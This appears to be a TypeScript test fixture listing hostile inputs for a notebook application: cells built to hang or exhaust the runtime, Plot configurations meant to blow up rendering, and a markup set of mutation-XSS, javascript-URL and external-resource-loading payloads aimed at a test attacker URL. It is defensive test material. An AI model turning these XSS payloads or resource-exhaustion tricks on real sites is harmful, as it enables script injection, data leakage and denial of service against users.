/**
 * More of what hostile.ts has: attacks that were thought of afterwards, by what they are against. They take longer
 * than the end-to-end tests have time for.
 */
import type { Targets } from './hostile.ts';

/** Cells that must come to an end by themselves, without a Stop; the page stays awake and the next cell runs. */
export const ending: Record<string, string> = {
  'every primordial redefined, deleted, or orphaned': `const roots = Object.getOwnPropertyNames(globalThis).map((name) => { try { return globalThis[name] } catch {} })
roots.push(function* () {}, async () => {}, async function* () {}, (function* () {})(), (async function* () {})(), [].values(), new Map().values(), ''[Symbol.iterator](), Object.getPrototypeOf(Uint8Array), new Error('x'))
const seen = new Set()
for (let depth = 0, level = roots; depth < 3; depth++) {
  const next = []
  for (const o of level) {
    if (o === null || (typeof o !== 'object' && typeof o !== 'function') || seen.has(o) || o === globalThis) continue
    seen.add(o)
    next.push(Object.getPrototypeOf(o), o.prototype)
    for (const key of Reflect.ownKeys(o)) {
      try { o[key] = () => { throw 1 } } catch {}
      try { Object.defineProperty(o, key, { get() { throw 2 } }) } catch {}
      try { delete o[key] } catch {}
    }
    try { Object.setPrototypeOf(o, null) } catch {}
    try { o.then = (resolve) => resolve('stolen') } catch {}
  }
  level = next
}
'survived'`,
  'a wait on shared memory':
    'try { Atomics.wait(new Int32Array(new SharedArrayBuffer(8)), 0, 0) } catch {}\ntry { Atomics.waitAsync(new Int32Array(new SharedArrayBuffer(8)), 0, 0) } catch {}\n"survived"',
  'memories of WASM without end':
    'const hoard = []\ntry { for (let i = 0; i < 4000; i++) hoard.push(new WebAssembly.Memory({ initial: 1024, maximum: 65536 })) } catch {}\n"survived"',
  'an integer that is too large': '10n ** (10n ** 10n)',
  'an integer of three hundred thousand digits': '2n ** 1_000_000n',
  'a hundred thousand displays': 'for (let i = 0; i < 1e5; i++) display(i)',
  'a table whose fields throw':
    'Array.from({ length: 100 }, () => ({ get a() { throw 1 }, b: { get c() { throw 2 } } }))',
  'a forged tensor':
    'Object.setPrototypeOf({ shape: [1e9, 1e9], data: { length: 1e18 }, size: -1 }, Object.getPrototypeOf(ones([1])))',
  'a tensor whose numbers were taken away':
    'const t = ones([4, 4])\nstructuredClone(t.data.buffer, { transfer: [t.data.buffer] })\nt',
  'a proxy of everything':
    'new Proxy(function () {}, new Proxy({}, { get: (_, trap) => { throw new Error(String(trap)) } }))',
  'proxies all the way down': 'let p = {}\nfor (let i = 0; i < 1e5; i++) p = new Proxy(p, {})\np',
  'an array that is longer than it is': 'Object.defineProperty([1], "length", { value: 2 ** 32 - 1 })',
  'a class that names itself by a getter':
    'class Wild { static get name() { throw 1 } get [Symbol.toStringTag]() { throw 2 } }\nnew Wild()',
  'keys that are no words':
    '({ "": 1, "\\0": 2, "\\ud800": 3, "__proto__": 4, ["__proto__"]: 5, constructor: 6, "</script>": 7, "\\u202e": 8 })',
  'timers that outlive their cell':
    'setTimeout(() => { while (true) {} }, 0)\nsetInterval(() => { while (true) {} }, 0)\n"survived"',
  'an async generator that is never done':
    'const g = (async function* () { try { while (true) yield 1 } finally { await new Promise(() => {}) } })()\nawait g.next()\nvoid g.return()\n"survived"',
  'a thenable as an output': '({ then(resolve, reject) { resolve = reject = null; throw this } })',
  'displays of a value that changes under them':
    'const list = [1]\nfor (let i = 0; i < 200; i++) { list.push(list); display(list) }',
  'inputs by the thousand': "for (let i = 0; i < 3000; i++) view(Inputs.range([0, 1], { label: 'x' }))",
  'a choice with a million options': 'view(Inputs.select(Array.from({ length: 1e6 }, (_, i) => i)))',
  'progress of no size':
    'for (const x of progress({ length: Infinity, *[Symbol.iterator]() { yield 1 } })) x',
};

/** Cells that need a Stop. */
export const stopping: Record<string, string> = {
  'a thenable that resolves to itself': 'const t = { then(resolve) { resolve(t) } }\nawait t',
  'an own keys trap that never ends': 'new Proxy({}, { ownKeys() { while (true) {} } })',
  'a labelled loop in a primitive': 'outer: while (true) { for (;;) continue outer }',
  'a conversion that never ends': '`${{ [Symbol.toPrimitive]() { for (;;); } }}`',
  'a sparse array of rows': 'const rows = []\nrows[2 ** 32 - 2] = { a: 1 }\nrows',
  'a sort that never ends': '[3, 1, 2].sort(() => { while (true) {} })',
};

/** A cell that leaves a loop behind, which begins when it is done, or just before. */
export const lurking = "new Blob(['x']).text().then(() => { while (true) {} })\n'gone'";

/** Plots are drawn on the page, from a recording: they may cost no more than any other output. */
export const plots: Record<string, string> = {
  'numbers that are none':
    'Plot.plot({ x: { domain: [NaN, Infinity] }, y: { domain: [-Infinity, 1e308] }, marks: [Plot.dot([[NaN, 1], [Infinity, -Infinity], [1e308, 5e-324]]), Plot.line([[0, Infinity]])] })',
  'keys of prototypes':
    'Plot.plot({ ["__proto__"]: { width: 9 }, constructor: { x: 1 }, x: { ["__proto__"]: { domain: [1, 2] } }, marks: [Plot.dot([{ ["__proto__"]: 1, constructor: 2 }], { x: "__proto__", y: "constructor", fill: "toString" })] })',
  'ticks without end':
    'Plot.plot({ x: { ticks: 1e8, grid: true }, y: { ticks: 1e8 }, marks: [Plot.dot([[1, 2], [3, 4]])] })',
  'an interval of nothing':
    'Plot.plot({ x: { interval: 1e-7, grid: true }, marks: [Plot.dot([[0, 0], [1e3, 1]])] })',
  'an interval of ordinals':
    'Plot.plot({ x: { type: "band", interval: 1e-4, domain: [0, 1e4] }, marks: [Plot.barY([[0, 1], [9, 3]], { x: "0", y: "1" })] })',
  'bins without end':
    'Plot.plot({ marks: [Plot.rectY([1, 2, 3e6], Plot.binX({ y: "count" }, { thresholds: 1e7 }))] })',
  'bins of an interval':
    'Plot.plot({ marks: [Plot.rectY([1, 2, 3e6], Plot.binX({ y: "count" }, { interval: 1e-3 }))] })',
  'an axis of its own':
    'Plot.plot({ marks: [Plot.axisX({ ticks: 1e8 }), Plot.gridX({ interval: 1e-7 }), Plot.dot([[0, 1], [9, 9]])] })',
  'facets by the thousand':
    'Plot.plot({ marks: [Plot.dot(Array.from({ length: 3000 }, (_, i) => ({ x: i, y: i, f: i })), { x: "x", y: "y", fx: "f" })] })',
  'a legend by the thousand':
    'Plot.plot({ color: { legend: true }, marks: [Plot.dot(Array.from({ length: 9000 }, (_, i) => ({ x: i, c: "c" + i })), { x: "x", fill: "c" })] })',
  'bins of a hundred million hexagons':
    'Plot.plot({ marks: [Plot.dot([[0, 0], [1, 1]], Plot.hexbin({ r: "count" }, { binWidth: 1e-9 })), Plot.hexgrid({ binWidth: 1e-3 })] })',
  'sizes that are none':
    'Plot.plot({ width: NaN, height: -1, marginLeft: Infinity, inset: 1e9, r: { range: [0, 1e9] }, marks: [Plot.dot([[1, 2]], { r: 5 })] })',
  'a tip of a hundred thousand letters':
    'Plot.plot({ marks: [Plot.dot([[1, 2]], { tip: true, title: () => "x".repeat(1e5) }), Plot.tip([[1, 2]], { title: () => "y\\n".repeat(1e4) })] })',
  'text in very many lines':
    'Plot.plot({ marks: [Plot.text([[1, 2]], { text: () => "word ".repeat(3e4), lineWidth: 1 })] })',
  'names of markers, curves and colours that are none':
    'Plot.plot({ color: { scheme: "__proto__", type: "constructor" }, marks: [Plot.line([[1, 2], [2, 3]], { curve: "constructor", marker: "toString", stroke: "url(javascript:1)" })] })',
  'a window of everything':
    'Plot.plot({ marks: [Plot.line(Array.from({ length: 2e4 }, (_, i) => i), Plot.windowY(1e4))] })',
};

/** Markup that other parsers, animations, style sheets and new elements are asked to do something with. */
export function markup({ attacker: { url } }: Targets): Record<string, string> {
  const steal = "parent.document.title='stolen'";
  const properties =
    'background background-image border-image border-image-source list-style list-style-image content cursor filter backdrop-filter mask mask-image -webkit-mask-image -webkit-mask-box-image clip-path shape-outside offset-path marker-start stroke fill src';
  const styles = properties
    .split(' ')
    .map((name, i) => `${name}: url(${url}css-${i}); ${name}: image-set('${url}set-${i}' 1x);`)
    .join(' ');
  const html: Record<string, string> = {
    'mutations of mathematics': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${steal}&gt;">`,
    'a form within a form': `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${steal}">`,
    'an attribute that ends what is not read': `<noscript><p title="</noscript><img src=x onerror=${steal}>"></p></noscript><noembed><p title="</noembed><img src=x onerror=${steal}>"></noembed>`,
    'a style within a drawing': `<svg></p><style><a id="</style><img src=x onerror=${steal}>"></style></svg>`,
    'text that is markup later': `<textarea></textarea&gt;<img src=x onerror=${steal}></textarea><title>&lt;/title&gt;<img src=x onerror=${steal}></title><xmp><p title="</xmp><img src=x onerror=${steal}>">`,
    'a template with a shadow': `<div><template shadowrootmode=open><img src="${url}shadow" onerror="${steal}"><script>${steal}</script></template></div><template><img src="${url}template"></template>`,
    'a template in a menu': `<select><template><img src=x onerror="${steal}"></template></select><table><caption><template><script>${steal}</script></template></caption></table>`,
    'animations of addresses': `<svg><a><set attributeName="href" to="javascript:${steal}"/><text y=20>x</text></a><a><animate attributeName="xlink:href" values="${url}smil"/><text>x</text></a><image width=9 height=9><set attributeName="href" to="${url}set"/></image><rect width=9 height=9><animate attributeName="fill" values="url(${url}fill#x)" dur="9s"/><set attributeName="filter" to="url(${url}filter#f)"/><set attributeName="style" to="mask:url(${url}mask#m)"/></rect></svg>`,
    'animations that begin by themselves': `<svg><animate onbegin="${steal}" attributeName=x dur=1s/><set onend="${steal}" attributeName=x dur=1ms /></svg><style>@keyframes k{}</style><b style="animation:k 1ms" onanimationend="${steal}">b</b><details open ontoggle="${steal}">d</details><marquee onstart="${steal}">m</marquee><input autofocus onfocus="${steal}">`,
    'references of drawings': `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='${url}use'/></svg>#x"/><feImage href="${url}fe"/><filter id=f><feImage xlink:href="${url}fe2"/></filter><rect filter="url(#f)" width=9 height=9 /><linearGradient href="${url}gradient#g"/><pattern href="${url}pattern#p"/><textPath href="${url}path#p">t</textPath><mpath href="${url}mpath"/><font-face-uri xlink:href="${url}font"/><cursor xlink:href="${url}cursor"/><script href="${url}script.js"/></svg>`,
    'style sheets in every property': `<style>@import url(${url}import-1) layer(x) supports(display: block); @import '${url}import-2' screen; @namespace url(${url}namespace); @counter-style c { system: cyclic; symbols: url(${url}symbol) } @property --p { syntax: '<url>'; inherits: false; initial-value: url(${url}property) } @font-face { font-family: f; src: url(${url}font) format('woff2'), local(x) } b { --x: url(${url}custom); ${styles} background-image: var(--x), cross-fade(url(${url}fade) 50%, red) } b::before { content: url(${url}before) } b:hover { background: url(${url}hover) } li::marker { content: url(${url}marker) } :root { background: url(${url}root) } @page { background: url(${url}page) }</style><b style="${styles}">b</b><ul><li>x</ul>`,
    'elements that load': `<video><track default src="${url}track"><source src="${url}source"></video><img lowsrc="${url}low" dynsrc="${url}dyn" longdesc="${url}long"><map name=m><area href="${url}area" ping="${url}ping"></map><input type=image src="${url}input"><script type=speculationrules>{"prefetch":[{"urls":["${url}speculation"]}]}</script><script type=importmap>{"imports":{"x":"${url}map"}}</script><link rel=expect href="${url}expect"><link rel=manifest href="${url}manifest"><meta http-equiv=Content-Security-Policy content="report-uri ${url}report"><meta http-equiv=Link content="<${url}meta>; rel=preload; as=image"><meta name=referrer content=unsafe-url><object data="${url}object" codebase="${url}"><param name=src value="${url}param"></object><applet code="${url}applet"></applet><isindex action="${url}index"><image src="${url}image"><body background="${url}body">`,
    'things over the page': `<dialog open style="position:fixed;inset:0;width:9999px;height:9999px">d</dialog><div popover id=p style="inset:0;width:9999px">p</div><button popovertarget=p>x</button><style>html{position:fixed;inset:0}</style>`,
    'an address that is written with care': `<a href="java&Tab;script:${steal}">a</a><a href="&#1;javascript:${steal}">b</a><a href="JaVaScRiPt:${steal}">c</a><a href="data:text/html,<script>${steal}</script>">d</a><a href="blob:${url}x">e</a><a href="//${url.slice(7)}f">f</a><a href="\\\\\\\\${url.slice(7)}g">g</a>`,
  };
  return Object.fromEntries(
    Object.entries(html).map(([name, text]) => [name, `html([${JSON.stringify(text)}])`]),
  );
}
